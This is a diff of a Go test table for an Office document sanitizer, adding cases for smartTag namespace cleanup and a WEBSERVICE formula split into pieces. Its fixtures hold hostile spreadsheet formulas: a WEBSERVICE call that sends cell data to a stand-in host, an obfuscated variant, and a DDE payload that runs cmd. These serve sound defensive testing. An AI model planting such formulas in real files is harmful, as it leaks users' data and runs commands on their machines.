@@ -511,6 +511,9 @@ var cases = []struct {
 	{name: "foreign XML", gone: []string{"urn:x\"/>", "f:a"}, stays: []string{"残る"}, pkg: func() *pkg {
 		return docx(`<w:p><f:a xmlns:f="urn:x"><w:r><w:t>残る</w:t></w:r></f:a></w:p>`)
 	}},
+	{name: "namespaces of tags that went", stays: []string{`<q:r xmlns:q="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><q:t>残る</q:t></q:r>`}, gone: []string{"smartTag"}, pkg: func() *pkg {
+		return docx(`<w:p><w:smartTag xmlns:q="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><q:r><q:t>残る</q:t></q:r></w:smartTag></w:p>`)
+	}},
 	{name: "comments and instructions are no news", gone: []string{"秘密", "<?x "}, stays: []string{"a &lt;b&gt; c"}, pkg: func() *pkg {
 		return docx(`<!-- 秘密 --><?x 秘密?><w:p><w:r><w:t>a <![CDATA[<b>]]> c</w:t></w:r></w:p>`)
 	}},
@@ -518,6 +521,10 @@ var cases = []struct {
 	{name: "formula", rule: "ooxml.formula", action: sanitize.Replaced, gone: []string{"WEBSERVICE"}, stays: []string{`<c r="A1" t="str"><v>答</v></c>`},
 		pkg: func() *pkg {
 			return xlsx(`<c r="A1" t="str"><f>WEBSERVICE("http://x/"&amp;B1)</f><v>答</v></c>`, "", "")
+		}},
+	{name: "formula in pieces", rule: "ooxml.formula", action: sanitize.Replaced, gone: []string{"WEBSERVICE"}, stays: []string{"<v>1</v>"},
+		pkg: func() *pkg {
+			return xlsx(`<c r="A1"><f>1+<t>"</t>+WEBSERVICE("h")&amp;<t>"</t></f><v>1</v></c>`, "", "")
 		}},
 	{name: "DDE formula", rule: "ooxml.dde", action: sanitize.Replaced, gone: []string{"cmd"}, stays: []string{"<v>1</v>"},
 		pkg: func() *pkg { return xlsx(`<c r="A1"><f>cmd|'/c calc'!A0</f><v>1</v></c>`, "", "") }},
